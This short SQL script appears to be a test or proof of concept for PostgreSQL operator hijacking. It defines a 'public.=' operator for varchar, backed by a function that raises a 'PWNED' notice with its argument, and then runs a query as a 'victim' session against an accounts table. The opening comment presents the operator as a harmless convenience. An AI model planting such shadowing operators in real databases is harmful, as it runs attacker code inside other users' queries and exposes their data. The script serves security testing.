-- An operator in public for types that the built-in ones do not fit exactly.
CREATE FUNCTION public.same(varchar, varchar) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'PWNED %', $1; RETURN true; END $$;
CREATE OPERATOR public.= (FUNCTION = public.same, LEFTARG = varchar, RIGHTARG = varchar);
-- @session victim
SELECT count(*) FROM accounts WHERE owner::varchar = 'x'::varchar;
